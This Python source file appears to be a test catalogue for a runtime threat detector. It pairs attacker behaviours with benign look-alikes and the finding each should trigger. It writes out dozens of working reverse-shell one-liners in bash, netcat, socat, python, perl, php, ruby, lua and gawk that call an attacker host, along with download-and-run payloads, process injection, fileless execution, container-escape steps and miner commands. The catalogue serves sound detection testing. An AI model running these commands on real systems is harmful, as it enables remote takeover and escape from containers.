# ruff: noqa: E501
# One-line attack scripts are quoted as they are found in the wild.
"""The catalogue: what attackers do, what looks like it and is ordinary, and the finding types expected of each.

Words in braces in a command are replaced by `tools.attacks.perform`: ``{ip}`` ``{ip6}`` ``{port}`` ``{port2}``
(the attacker's), ``{local}`` (an address of the place itself), ``{resolver}``, ``{bin}`` (directory of the C
programs), ``{dir}`` (a scratch directory).
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, Literal

REVERSE_SHELL = "Execution:Runtime/ReverseShell"
NEW_BINARY = "Execution:Runtime/NewBinaryExecuted"
FILELESS = "DefenseEvasion:Runtime/FilelessExecution"
INJECTION_PROC = "DefenseEvasion:Runtime/ProcessInjection.Proc"
INJECTION_PTRACE = "DefenseEvasion:Runtime/ProcessInjection.Ptrace"
INJECTION_VM = "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite"
ANTI_DEBUGGING = "DefenseEvasion:Runtime/PtraceAntiDebugging"
KERNEL_MODULE = "DefenseEvasion:Runtime/KernelModuleLoaded"
DOCKER_SOCKET = "PrivilegeEscalation:Runtime/DockerSocketAccessed"
RUNC_ESCAPE = "PrivilegeEscalation:Runtime/RuncContainerEscape"
RELEASE_AGENT = "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified"
HOST_MOUNT = "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory"
USERFAULTFD = "PrivilegeEscalation:Runtime/UserfaultfdUsage"
CRYPTO_MINER = "Impact:Runtime/CryptoMinerExecuted"
SUSPICIOUS_TOOL = "Execution:Runtime/SuspiciousTool"
C2_IP = "Backdoor:Runtime/C&CActivity.B"
C2_DOMAIN = "Backdoor:Runtime/C&CActivity.B!DNS"

C2_LISTED_IP = "203.0.113.77"
C2_LISTED_NETWORK = "2001:db8:bad::/48"
C2_LISTED_DOMAIN = "c2.vedette.example"
THREAT_LIST = f"# name: Vedette test list\n{C2_LISTED_IP}\n{C2_LISTED_NETWORK}\n{C2_LISTED_DOMAIN}\n"
"""A threat list that the C&C behaviours expect to be loaded."""

Where = Literal["container", "host"]
Listener = Literal["shell", "tls", "udp", "hold", "http"]


@dataclass(frozen=True)
class Behaviour:
    """One thing that a process does.

    Attributes:
        name: unique, kebab-case.
        title: what it is, for people.
        command: argument vector; see the module's words in braces.
        findings: finding types that must come of it, no more and no fewer; none for an ordinary behaviour.
        where: in a container or on the host.
        executable: file name of the process that the first finding must name, where it is not plain from the command.
        listener: what the far side does: ``shell`` sends commands to whoever connects, ``tls`` does so by TLS,
            ``udp`` answers the first datagram with commands, ``http`` sends a page, ``hold`` only keeps the
            connection; None for nobody.
        dial: local port to which the attacker connects instead of listening (bind shells).
        privileged: container with everything.
        capabilities: granted to the container besides the usual ones.
        mounts: further OCI mounts of the container.
        severity: the finding's severity, where it differs from its type's usual one.
        look_alike: for an ordinary behaviour: the finding type that it resembles.
    """

    name: str
    title: str
    command: tuple[str, ...]
    findings: tuple[str, ...] = ()
    where: Where = "container"
    executable: str | None = None
    listener: Listener | None = None
    dial: bool = False
    privileged: bool = False
    capabilities: tuple[str, ...] = ()
    mounts: tuple[Mapping[str, Any], ...] = field(default=())
    look_alike: str = ""
    timeout_s: float = 15
    severity: float | None = None


def sh(script: str) -> tuple[str, ...]:
    """A command that has bash run ``script``."""
    return ("/bin/bash", "-c", script)


def _reverse_shells() -> list[Behaviour]:
    def one(name: str, title: str, command: tuple[str, ...], **options: Any) -> Behaviour:
        options.setdefault("listener", "shell")
        options.setdefault("findings", (REVERSE_SHELL,))
        return Behaviour(f"reverse-shell-{name}", title, command, **options)

    python = "import socket,os,subprocess,pty\ns=socket.socket({family});s.connect(('{address}',{{port}}))\n"
    python4 = python.format(family="", address="{ip}")
    python6 = python.format(family="socket.AF_INET6", address="{ip6}")
    dup = "[os.dup2(s.fileno(),n) for n in (0,1,2)]\n"
    perl = 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in({port},inet_aton("{ip}")));'
    return [
        one("bash-dev-tcp", "bash with its descriptors on /dev/tcp", sh("bash -i >& /dev/tcp/{ip}/{port} 0>&1")),
        one("bash-loopback", "the same to 127.0.0.1", sh("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")),
        one(
            "bash-renamed",
            "a copy of bash under another name",
            sh(
                "cp /bin/bash {dir}/kworker; exec {dir}/kworker -c 'exec {dir}/kworker -i >& /dev/tcp/{ip}/{port} 0>&1'"
            ),
            where="host",
            findings=(REVERSE_SHELL, NEW_BINARY),
            executable="kworker",
        ),
        one(
            "udp",
            "a shell on a UDP socket",
            ("{bin}/reverse", "udp", "{ip}", "{port}", "/bin/sh"),
            listener="udp",
            executable="dash",
        ),
        one(
            "bash-read-loop",
            "bash reads commands line by line and runs each with its output on the socket",
            sh("exec 5<>/dev/tcp/{ip}/{port}; while read l <&5; do $l >&5 2>&5; done"),
        ),
        one(
            "bash-cat-loop",
            "cat reads the socket, a loop runs the lines",
            sh("exec 5<>/dev/tcp/{ip}/{port}; cat <&5 | while read line; do $line 2>&5 >&5; done"),
        ),
        one(
            "bash-exec-fds",
            "a shell started on a numbered descriptor",
            sh("exec 196<>/dev/tcp/{ip}/{port}; sh <&196 >&196 2>&196"),
        ),
        one("nc-e", "netcat -e", ("nc.traditional", "{ip}", "{port}", "-e", "/bin/sh")),
        one("busybox-nc", "busybox nc -e", ("busybox", "nc", "{ip}", "{port}", "-e", "/bin/sh")),
        one(
            "mkfifo-nc",
            "FIFO, shell and netcat in a ring",
            sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc.openbsd -N {ip} {port} > /tmp/f"),
        ),
        one(
            "mkfifo-nc-short",
            "FIFO, shell and netcat in a ring, without cat",
            sh("mkfifo /tmp/f; /bin/sh < /tmp/f 2>&1 | nc.traditional {ip} {port} > /tmp/f"),
        ),
        one(
            "mkfifo-nc-reversed",
            "the ring the other way round: netcat reads the FIFO",
            sh("mkfifo /tmp/f; nc.traditional {ip} {port} < /tmp/f | /bin/bash > /tmp/f 2>&1"),
        ),
        one(
            "mkfifo-openssl",
            "FIFO, shell and openssl s_client: the network is encrypted",
            sh(
                "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {ip}:{port} > /tmp/s 2>/dev/null"
            ),
            listener="tls",
        ),
        one(
            "two-ports",
            "commands come by one connection, output leaves by another",
            sh("nc.traditional {ip} {port} | /bin/sh 2>&1 | nc.traditional {ip} {port2}"),
        ),
        one(
            "coproc-nc",
            "bash's coprocess is the network client",
            sh('coproc nc.traditional {ip} {port}; sh <&"${COPROC[0]}" >&"${COPROC[1]}" 2>&1'),
        ),
        one("socat-exec", "socat EXEC (a unix socket pair in between)", ("socat", "TCP:{ip}:{port}", "EXEC:/bin/sh")),
        one(
            "socat-pty",
            "socat with a terminal",
            ("socat", "TCP:{ip}:{port}", "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"),
        ),
        one("socat-nofork", "socat that becomes the shell", ("socat", "TCP6:[{ip6}]:{port}", "EXEC:/bin/sh,nofork")),
        one(
            "python-dup2",
            "python: dup2 and a shell",
            ("python3", "-c", python4 + dup + "subprocess.call(['/bin/sh','-i'])"),
        ),
        one("python-pty", "python: pty.spawn", ("python3", "-c", python4 + dup + "pty.spawn('/bin/bash')")),
        one("python-ipv6", "python by IPv6", ("python3", "-c", python6 + dup + "subprocess.call(['/bin/sh'])")),
        one(
            "python-popen",
            "python hands the socket to Popen",
            ("python3", "-c", python4 + "subprocess.Popen(['/bin/sh'],stdin=s,stdout=s,stderr=s).wait()"),
        ),
        one(
            "perl",
            "perl: open STDIN from the socket",
            ("perl", "-e", perl + 'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'),
        ),
        one(
            "ruby",
            "ruby: exec with redirected descriptors",
            (
                "ruby",
                "-rsocket",
                "-e",
                'f=TCPSocket.open("{ip}",{port}).to_i;exec "/bin/sh -i <&%d >&%d 2>&%d" % [f,f,f], f=>f',
            ),
        ),
        one(
            "php",
            "php: fsockopen and exec",
            ("php", "-r", '$s=fsockopen("{ip}",{port});exec("/bin/sh -i <&3 >&3 2>&3");'),
        ),
        one(
            "php-proc-open",
            "php: proc_open and a loop that copies",
            (
                "php",
                "-r",
                '$s=fsockopen("{ip}",{port});$p=proc_open("/bin/sh -i",[["pipe","r"],["pipe","w"],["pipe","w"]],$f);'
                "stream_set_blocking($f[1],0);while(!feof($s)){$r=[$s,$f[1]];$w=$e=null;if(!stream_select($r,$w,$e,3))break;"
                "if(in_array($s,$r))fwrite($f[0],fread($s,999));if(in_array($f[1],$r)){$o=fread($f[1],999);"
                'if($o==="")break;fwrite($s,$o);}}',
            ),
        ),
        one(
            "lua",
            "lua: os.execute on the inherited descriptor",
            (
                "lua",
                "-e",
                'local t=require("socket").tcp();t:connect("{ip}",{port});os.execute("/bin/sh -i <&3 >&3 2>&3")',
            ),
        ),
        one(
            "awk",
            "gawk's own network files and a command loop",
            (
                "gawk",
                'BEGIN{s="/inet/tcp/0/{ip}/{port}";while((s |& getline c)>0){if(c=="exit")break;'
                "while((c |& getline l)>0)print l |& s;close(c)}}",
            ),
        ),
        *(
            one(
                f"c-{how}",
                f"a C program: {title}",
                ("{bin}/reverse", how, "{ip}", "{port}", "/bin/sh", *arguments),
                executable="dash",
            )
            for how, title, arguments in (
                ("dup2", "dup2", ()),
                ("dup3", "dup3", ("-i",)),
                ("close-dup", "close and dup, no descriptor named", ()),
                ("fcntl", "fcntl F_DUPFD", ()),
                ("passed", "the socket comes from another process", ()),
                ("pipes", "pipes and a loop that copies", ()),
                ("socketpair", "a unix socket pair and a loop that copies", ("-i",)),
                ("pty", "a terminal and a loop that copies", ()),
                ("late-pipes", "first the shell, then the connection", ("-i",)),
            )
        ),
        one(
            "host-bash",
            "bash on /dev/tcp, on the host",
            sh("bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
            where="host",
            executable="bash",
        ),
    ]


def _ordinary_shells() -> list[Behaviour]:
    def one(name: str, title: str, command: tuple[str, ...], **options: Any) -> Behaviour:
        return Behaviour(f"ordinary-{name}", title, command, look_alike=REVERSE_SHELL, **options)

    return [
        one(
            "pipeline",
            "pipes and redirections",
            sh("echo id | sh | tee {dir}/out > /dev/null; echo true > {dir}/in; sh < {dir}/in 2>&1 | cat"),
        ),
        one("terminal", "a shell on a terminal", ("script", "-qec", "bash -ic 'echo hello'", "/dev/null")),
        one(
            "terminal-python",
            "python's pty without any network",
            ("python3", "-c", "import pty;pty.spawn(['/bin/sh','-c','id'])"),
        ),
        one(
            "unix-socket",
            "a shell on a unix socket pair",
            (
                "python3",
                "-c",
                "import socket,subprocess\na,b=socket.socketpair()\np=subprocess.Popen(['/bin/sh'],stdin=b,stdout=b)\n"
                "a.sendall(b'id\\nexit\\n')\nprint(a.recv(99))\np.wait()",
            ),
        ),
        one(
            "accepted",
            "an inetd-like service hands an accepted connection to a shell",
            (
                "python3",
                "-c",
                "import socket,subprocess\nl=socket.socket();l.setsockopt(1,2,1);l.bind(('{local}',{port}));l.listen()\n"
                "c,_=l.accept();subprocess.Popen(['/bin/sh'],stdin=c,stdout=c,stderr=c).wait()",
            ),
            dial=True,
        ),
        one(
            "accepted-nc",
            "netcat -l -e: inbound, another kind of finding",
            ("nc.traditional", "-l", "-p", "{port}", "-e", "/bin/sh"),
            dial=True,
        ),
        one(
            "download-pipe-shell",
            "curl | sh",
            sh("nc.traditional -w 2 {ip} {port} < /dev/null | tail -n 1 | sh"),
            listener="http",
        ),
        one(
            "bash-http-client",
            "a health check in bash: request and answer by /dev/tcp",
            sh("exec 3<>/dev/tcp/{ip}/{port}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 > /dev/null"),
            listener="http",
        ),
        one(
            "bash-port-check",
            "a port check in bash",
            sh("timeout 2 bash -c '</dev/tcp/{ip}/{port}'; sh -c true"),
            listener="hold",
        ),
        one(
            "bash-log-shipping",
            "output sent to a log host",
            sh("{ id; ls /; } > /dev/tcp/{ip}/{port} 2>&1"),
            listener="hold",
        ),
        one(
            "tar-to-network",
            "a backup piped into netcat",
            sh("tar cf - /etc/hostname | gzip | nc.traditional -q 1 {ip} {port}"),
            listener="hold",
        ),
        one(
            "ci-runner",
            "a program that talks to its server runs scripts with pipes",
            (
                "python3",
                "-c",
                "import socket,subprocess\ns=socket.create_connection(('{ip}',{port}))\nopen('{dir}/job.sh','w').write('id; exit 0')\n"
                "p=subprocess.Popen(['/bin/bash','-e','{dir}/job.sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n"
                "s.sendall(p.communicate(b'')[0])",
            ),
            listener="hold",
        ),
        one(
            "agent-command",
            "an agent asks its server and runs a command",
            (
                "python3",
                "-c",
                "import socket,subprocess\ns=socket.create_connection(('{ip}',{port}))\ns.sendall(subprocess.check_output('id; uname',shell=True))",
            ),
            listener="hold",
        ),
        one("exec-shell", "a shell by exec into the container, as kubectl exec starts it", ("/bin/sh",)),
        one("kubectl-exec-pipes", "exec with pipes into a container", ("/bin/sh", "-c", "cat | sh")),
        one(
            "python-server-and-client",
            "a client of the network that runs another program",
            ("python3", "-c", "import socket,os\ns=socket.create_connection(('{ip}',{port}))\nos.system('true')"),
            listener="hold",
        ),
        one("xargs-sh", "xargs starts shells", sh("printf 'a b' | xargs -n 1 sh -c 'echo $0' | cat")),
        one("host-pipeline", "pipes and redirections on the host", sh("echo id | sh | cat"), where="host"),
    ]


def _new_binaries() -> list[Behaviour]:
    def one(name: str, title: str, script: str, **options: Any) -> Behaviour:
        return Behaviour(f"new-binary-{name}", title, sh(script), (NEW_BINARY,), **options)

    def ordinary(name: str, title: str, script: str, **options: Any) -> Behaviour:
        return Behaviour(f"ordinary-binary-{name}", title, sh(script), look_alike=NEW_BINARY, **options)

    return [
        one("copied", "a program copied to /tmp and run", "cp /bin/true {dir}/x && {dir}/x", executable="x"),
        one(
            "downloaded",
            "a program fetched, made executable and run",
            "nc.traditional -w 1 {ip} {port} > /root/payload; cp {bin}/quiet /root/payload; chmod +x /root/payload; /root/payload",
            executable="payload",
            listener="http",
        ),
        one(
            "renamed-over",
            "a system program replaced by rename",
            "cp {bin}/quiet /usr/bin/.t && mv /usr/bin/.t /usr/bin/env && /usr/bin/env",
            executable="env",
        ),
        one(
            "overwritten",
            "a system program overwritten in place",
            "cat {bin}/quiet > /usr/bin/env && /usr/bin/env",
            executable="env",
        ),
        one(
            "python-written",
            "written by a script language",
            "python3 -c \"import os;d=open('{bin}/quiet','rb').read();f=open('{dir}/p','wb');f.write(d);f.close();os.chmod('{dir}/p',0o755)\"; {dir}/p",
            executable="p",
        ),
        one(
            "linked",
            "a hard link to a new program",
            "cp {bin}/quiet {dir}/a; ln {dir}/a {dir}/b; {dir}/b",
            executable="b",
        ),
        one(
            "host-tmp",
            "on the host: written to /tmp and run",
            "cp /bin/true {dir}/x && {dir}/x",
            where="host",
            executable="x",
        ),
        one(
            "host-hidden",
            "on the host: a hidden file in /var/tmp",
            "cp /bin/true /var/tmp/.vedette-x && /var/tmp/.vedette-x; rm -f /var/tmp/.vedette-x",
            where="host",
            executable=".vedette-x",
        ),
        one(
            "dpkg",
            "a package installed in a running container: low, and said",
            "mkdir -p {dir}/p/DEBIAN {dir}/p/usr/bin; cp {bin}/quiet {dir}/p/usr/bin/vedette-tool; "
            "printf 'Package: vedette-tool\\nVersion: 1\\nArchitecture: all\\nMaintainer: x <x@vedette.example>\\n"
            "Description: x\\n' > {dir}/p/DEBIAN/control; dpkg-deb --build {dir}/p {dir}/p.deb; dpkg -i {dir}/p.deb; "
            "/usr/bin/vedette-tool",
            executable="vedette-tool",
            severity=2.0,
        ),
        one(
            "linked-here",
            "a program assembled and linked in a running container: low, and said",
            "cd {dir} && printf '.globl _start\\n_start: mov $60,%%eax\\n xor %%edi,%%edi\\n syscall\\n' > m.s && "
            "as -o m.o m.s && ld -o m m.o && ./m",
            executable="m",
            severity=2.0,
        ),
        ordinary("image", "a program of the image", "/bin/true; {bin}/quiet"),
        ordinary("chmod", "an image program whose mode was changed", "chmod 0711 /usr/bin/env && /usr/bin/env true"),
        ordinary("entrypoint", "an entry point writes configuration", "{bin}/entrypoint.sh"),
        ordinary(
            "script-written",
            "a generated script is no program",
            "printf '#!/bin/sh\\nexit 0\\n' > {dir}/s; chmod +x {dir}/s; {dir}/s",
        ),
        ordinary(
            "host-compile",
            "a developer compiles on the host",
            "cd {dir} && mkdir -p src && printf 'int main(void){return 0;}' > src/m.c && gcc -o src/m src/m.c && src/m",
            where="host",
        ),
    ]


def _fileless() -> list[Behaviour]:
    def one(how: str, title: str, **options: Any) -> Behaviour:
        options.setdefault("executable", None)
        return Behaviour(f"fileless-{how}", title, ("{bin}/fileless", how, "{bin}/quiet"), (FILELESS,), **options)

    return [
        one("memfd", "memfd_create and fexecve"),
        one("memfd-execveat", "memfd_create and execveat with an empty path"),
        one("memfd-proc", "memfd_create and execve of /proc/self/fd/N"),
        one("memfd-other", "a memfd run by way of another process's descriptor table"),
        one("unlinked", "a file deleted before it is run"),
        one("tmpfile", "a file that never had a name (O_TMPFILE)"),
        one("shm", "a program in /dev/shm"),
        Behaviour(
            "fileless-host-memfd",
            "memfd on the host",
            ("{bin}/fileless", "memfd", "{bin}/quiet"),
            (FILELESS,),
            where="host",
        ),
        Behaviour(
            "fileless-perl-memfd",
            "perl: the system call by number",
            (
                "perl",
                "-e",
                'my $f=syscall(319,my $n="x",0);open(my $o,">&=",$f);binmode $o;open(my $i,"<","{bin}/quiet");local $/;my $d=<$i>;print $o $d;'
                'close($i);my $h=select($o);$|=1;select($h);exec {"/proc/$$/fd/$f"} "kthreadd";',
            ),
            (FILELESS,),
        ),
        Behaviour(
            "ordinary-fileless-runc",
            "runc runs itself from memory",
            ("runc", "--version"),
            where="host",
            look_alike=FILELESS,
        ),
        Behaviour(
            "ordinary-fileless-upgrade",
            "a program that was replaced while it runs",
            sh("cp /bin/sleep {dir}/s; true"),
            look_alike=FILELESS,
        ),
        Behaviour(
            "ordinary-fileless-shm-data",
            "data in /dev/shm",
            sh("echo x > /dev/shm/x; cat /dev/shm/x"),
            look_alike=FILELESS,
        ),
        Behaviour(
            "ordinary-fileless-memfd-data",
            "a memfd that is not run",
            ("python3", "-c", "import os;f=os.memfd_create('x');os.write(f,b'x')"),
            look_alike=FILELESS,
        ),
    ]


def _injection() -> list[Behaviour]:
    def one(how: str, finding: str, title: str, **options: Any) -> Behaviour:
        return Behaviour(
            f"inject-{how}", title, ("{bin}/inject", how), (finding,), capabilities=("CAP_SYS_PTRACE",), **options
        )

    def ordinary(name: str, title: str, command: tuple[str, ...], like: str, **options: Any) -> Behaviour:
        return Behaviour(f"ordinary-{name}", title, command, look_alike=like, **options)

    return [
        one("proc-mem", INJECTION_PROC, "writes /proc/PID/mem"),
        one("proc-mem-task", INJECTION_PROC, "writes /proc/PID/task/TID/mem"),
        one("proc-mem-relative", INJECTION_PROC, "writes mem relative to an open /proc/PID"),
        Behaviour(
            "inject-proc-mem-dd",
            "dd to /proc/PID/mem",
            sh("sleep 5 & dd if=/dev/null of=/proc/$!/mem conv=notrunc 2>/dev/null; kill $!"),
            (INJECTION_PROC,),
            executable="dd",
        ),
        one("attach-poketext", INJECTION_PTRACE, "ptrace attach and poketext"),
        one("attach-pokedata", INJECTION_PTRACE, "ptrace attach and pokedata"),
        one("attach-setregs", INJECTION_PTRACE, "ptrace attach and setregs"),
        one("seize-setregset", INJECTION_PTRACE, "ptrace seize and setregset"),
        one("peekuser", ANTI_DEBUGGING, "a child asks to be traced by its own program: nobody else can then"),
        one("vm-write", INJECTION_VM, "process_vm_writev"),
        one("vm-write-fault", INJECTION_VM, "process_vm_writev that fails with EFAULT"),
        Behaviour(
            "anti-debugging", "ptrace(TRACEME) by a process on itself", ("{bin}/inject", "traceme"), (ANTI_DEBUGGING,)
        ),
        Behaviour(
            "anti-debugging-twice",
            "ptrace(TRACEME) twice: am I being traced?",
            ("{bin}/inject", "traceme-twice"),
            (ANTI_DEBUGGING,),
        ),
        ordinary("own-mem", "a process writes its own /proc/self/mem", ("{bin}/inject", "own-mem"), INJECTION_PROC),
        ordinary(
            "vm-read", "process_vm_readv", ("{bin}/inject", "vm-read"), INJECTION_VM, capabilities=("CAP_SYS_PTRACE",)
        ),
        ordinary(
            "strace",
            "strace starts a program",
            ("strace", "-f", "-o", "/dev/null", "/bin/true"),
            ANTI_DEBUGGING,
            where="host",
        ),
        ordinary(
            "strace-attach",
            "strace attaches to a running program",
            sh("sleep 1 & strace -p $! -o /dev/null & sleep 0.3; kill %2; wait"),
            INJECTION_PTRACE,
            where="host",
        ),
        ordinary(
            "gdb",
            "gdb with a breakpoint",
            ("gdb", "-q", "-batch", "-nx", "-ex", "break main", "-ex", "run", "-ex", "continue", "{bin}/quiet"),
            INJECTION_PTRACE,
            where="host",
        ),
        ordinary(
            "proc-maps",
            "reads of another process's /proc files",
            sh("sleep 1 & cat /proc/$!/maps /proc/$!/status > /dev/null; kill $!"),
            INJECTION_PROC,
        ),
    ]


def _escapes() -> list[Behaviour]:
    admin = ("CAP_SYS_ADMIN",)
    runc_mount: tuple[Mapping[str, Any], ...] = (
        {"destination": "/host/runc-dir", "type": "bind", "source": "{runc_copy}", "options": ["bind", "rw"]},
    )
    return [
        Behaviour("module-init", "init_module", ("{bin}/kernel", "init-module"), (KERNEL_MODULE,), privileged=True),
        Behaviour(
            "module-finit",
            "finit_module",
            ("{bin}/kernel", "finit-module", "{bin}/example.ko"),
            (KERNEL_MODULE,),
            privileged=True,
        ),
        Behaviour(
            "module-host",
            "finit_module on the host from a writable directory",
            sh("cp {bin}/example.ko {dir}/rk.ko; {bin}/kernel finit-module {dir}/rk.ko"),
            (KERNEL_MODULE,),
            where="host",
            executable="kernel",
        ),
        Behaviour(
            "socket-docker-io-uring",
            "connects to Docker's socket by io_uring",
            ("{bin}/uring", "unix", "/var/run/docker.sock"),
            (DOCKER_SOCKET,),
        ),
        Behaviour(
            "release-agent-io-uring",
            "opens a release_agent by io_uring",
            ("{bin}/uring", "open", "/sys/fs/cgroup/rdma/release_agent"),
            (RELEASE_AGENT,),
        ),
        Behaviour(
            "inject-proc-mem-io-uring",
            "opens another process's memory by io_uring",
            sh("sleep 3 & {bin}/uring open /proc/$!/mem; kill $!"),
            (INJECTION_PROC,),
            executable="uring",
        ),
        Behaviour(
            "c2-io-uring",
            "connects to a listed address by io_uring",
            ("{bin}/uring", "connect", C2_LISTED_IP, "443"),
            (C2_IP,),
        ),
        Behaviour(
            "reverse-shell-io-uring",
            "a shell on a socket that io_uring connected",
            ("{bin}/uring", "shell", "{ip}", "{port}", "/bin/sh"),
            (REVERSE_SHELL,),
            listener="shell",
            executable="dash",
        ),
        Behaviour(
            "ordinary-module-delete",
            "removes a kernel module",
            ("{bin}/kernel", "delete-module"),
            privileged=True,
            look_alike=KERNEL_MODULE,
        ),
        Behaviour(
            "ordinary-module-file",
            "handles module files without loading them",
            sh("cp {bin}/example.ko {dir}/a.ko; cat {dir}/a.ko > /dev/null"),
            look_alike=KERNEL_MODULE,
        ),
        *(
            Behaviour(f"socket-{name}", f"connects to {path}", ("{bin}/kernel", "unix", path), (DOCKER_SOCKET,))
            for name, path in (
                ("docker", "/var/run/docker.sock"),
                ("containerd", "/run/containerd/containerd.sock"),
                ("crio", "/var/run/crio/crio.sock"),
                ("podman", "/run/podman/podman.sock"),
                ("kubelet", "/var/lib/kubelet/pod-resources/kubelet.sock"),
                ("host-mounted", "/host/var/run/docker.sock"),
            )
        ),
        Behaviour(
            "socket-docker-nc",
            "netcat to the Docker socket",
            ("nc.openbsd", "-N", "-U", "/var/run/docker.sock"),
            (DOCKER_SOCKET,),
        ),
        Behaviour(
            "socket-docker-relative",
            "the socket's name alone, from its directory",
            ("{bin}/kernel", "unix-relative", "/run", "docker.sock"),
            (DOCKER_SOCKET,),
        ),
        Behaviour(
            "ordinary-socket",
            "another unix socket",
            ("{bin}/kernel", "unix", "/run/mysqld/mysqld.sock"),
            look_alike=DOCKER_SOCKET,
        ),
        Behaviour(
            "ordinary-socket-named",
            "a socket whose name merely resembles",
            ("{bin}/kernel", "unix", "/tmp/docker.sock.d/notdocker.sock"),
            look_alike=DOCKER_SOCKET,
        ),
        Behaviour(
            "ordinary-socket-host",
            "the host's own client speaks to Docker",
            ("{bin}/kernel", "unix", "/var/run/docker.sock"),
            where="host",
            look_alike=DOCKER_SOCKET,
        ),
        Behaviour(
            "runc-written",
            "opens the mounted runc binary for writing",
            ("{bin}/escape", "write", "/host/runc-dir/runc"),
            (RUNC_ESCAPE,),
            mounts=runc_mount,
        ),
        Behaviour(
            "runc-written-by-fd",
            "reopens runc for writing by its descriptor",
            ("{bin}/escape", "write-by-fd", "/host/runc-dir/runc"),
            (RUNC_ESCAPE,),
            mounts=runc_mount,
        ),
        Behaviour(
            "runc-replaced",
            "renames another file over runc",
            ("{bin}/escape", "replace", "/host/runc-dir/runc"),
            (RUNC_ESCAPE,),
            mounts=runc_mount,
        ),
        Behaviour(
            "runc-proc-exe",
            "opens another process's /proc/PID/exe for writing",
            sh("sleep 3 & {bin}/escape write-exe-of $!; kill $!"),
            (RUNC_ESCAPE,),
            executable="escape",
        ),
        Behaviour(
            "runc-leaked-cwd",
            "a program whose working directory is outside its root",
            ("{bin}/escape", "cwd", "/", "/opt", "/attacks/quiet"),
            (RUNC_ESCAPE,),
            executable="quiet",
        ),
        Behaviour(
            "ordinary-cwd",
            "a working directory by descriptor, inside the root",
            ("{bin}/escape", "cwd", "/opt", "{bin}/quiet"),
            look_alike=RUNC_ESCAPE,
        ),
        Behaviour(
            "ordinary-chroot",
            "chroot and chdir",
            sh("mkdir -p /c/bin; cp -r /lib /lib64 /c/ 2>/dev/null; cd / && chroot / /bin/true"),
            look_alike=RUNC_ESCAPE,
        ),
        Behaviour(
            "release-agent",
            "writes cgroup v1's release_agent",
            sh("mkdir -p /tmp/cg; mount -t cgroup -o pids cgroup /tmp/cg; {bin}/escape write /tmp/cg/release_agent"),
            (RELEASE_AGENT,),
            capabilities=admin,
            executable="escape",
        ),
        Behaviour(
            "release-agent-attempt",
            "tries to write a release_agent that is not there",
            ("{bin}/escape", "write", "/sys/fs/cgroup/rdma/release_agent", "/cmd"),
            (RELEASE_AGENT,),
            executable="escape",
        ),
        Behaviour(
            "ordinary-cgroup-read",
            "reads release_agent's neighbours",
            sh("cat /sys/fs/cgroup/release_agent /proc/self/cgroup 2>/dev/null; true"),
            look_alike=RELEASE_AGENT,
        ),
        Behaviour(
            "mount-device",
            "mounts a disk",
            ("{bin}/kernel", "mount", "/dev/vda", "/mnt", "ext4"),
            (HOST_MOUNT,),
            capabilities=admin,
        ),
        Behaviour(
            "mount-attempt",
            "tries to mount a disk without the right to",
            ("{bin}/kernel", "mount", "/dev/sda1", "/mnt", "ext4"),
            (HOST_MOUNT,),
        ),
        Behaviour(
            "mount-fsopen",
            "the new mount calls on a disk",
            ("{bin}/kernel", "fsopen", "/dev/vda", "/mnt", "ext4"),
            (HOST_MOUNT,),
            capabilities=admin,
        ),
        Behaviour(
            "mount-open-tree",
            "clones a mounted host directory and attaches it elsewhere",
            ("{bin}/kernel", "open-tree", "/host/runc-dir", "/mnt"),
            (HOST_MOUNT,),
            capabilities=admin,
            mounts=runc_mount,
        ),
        Behaviour(
            "mount-mount-8",
            "mount(8)",
            sh("mount /dev/vda1 /mnt"),
            (HOST_MOUNT,),
            capabilities=admin,
            executable="mount",
        ),
        Behaviour(
            "ordinary-mount-tmpfs", "a tmpfs", sh("mount -t tmpfs none /mnt"), capabilities=admin, look_alike=HOST_MOUNT
        ),
        Behaviour(
            "ordinary-mount-proc",
            "proc and a bind mount of the container's own directory",
            sh("mkdir -p /a /b; mount -t proc proc /mnt; mount --bind /a /b"),
            capabilities=admin,
            look_alike=HOST_MOUNT,
        ),
        Behaviour(
            "ordinary-mount-host",
            "the host mounts",
            sh("mount -t tmpfs none {dir}; umount {dir}"),
            where="host",
            look_alike=HOST_MOUNT,
        ),
        Behaviour(
            "userfaultfd",
            "userfaultfd(2)",
            ("{bin}/kernel", "userfaultfd"),
            (USERFAULTFD,),
            capabilities=("CAP_SYS_PTRACE",),
        ),
        Behaviour(
            "userfaultfd-attempt", "userfaultfd(2) refused", ("{bin}/kernel", "userfaultfd", "0"), (USERFAULTFD,)
        ),
        Behaviour(
            "userfaultfd-device",
            "/dev/userfaultfd",
            sh("mknod /dev/userfaultfd c 10 257; exec {bin}/kernel open /dev/userfaultfd"),
            (USERFAULTFD,),
            privileged=True,
        ),
        Behaviour(
            "ordinary-userfaultfd-host",
            "user-mode-only userfaultfd on the host",
            ("{bin}/kernel", "userfaultfd", "1"),
            where="host",
            look_alike=USERFAULTFD,
        ),
    ]


def _tools() -> list[Behaviour]:
    def tool(name: str, title: str, command: tuple[str, ...], **options: Any) -> Behaviour:
        return Behaviour(f"tool-{name}", title, command, (SUSPICIOUS_TOOL,), **options)

    def miner(name: str, title: str, command: tuple[str, ...], **options: Any) -> Behaviour:
        return Behaviour(f"miner-{name}", title, command, (CRYPTO_MINER,), **options)

    return [
        miner("xmrig", "xmrig by name", ("/usr/local/bin/xmrig", "--help")),
        miner(
            "renamed",
            "a renamed miner, known by its arguments",
            ("/usr/local/bin/worker", "-o", "stratum+tcp://pool.vedette.example:3333", "-u", "wallet", "-p", "x"),
        ),
        miner(
            "algorithm",
            "a renamed miner, known by algorithm and donation",
            ("/usr/local/bin/worker", "--algo=rx/0", "--donate-level=1", "--url=pool.vedette.example:3333"),
        ),
        Behaviour(
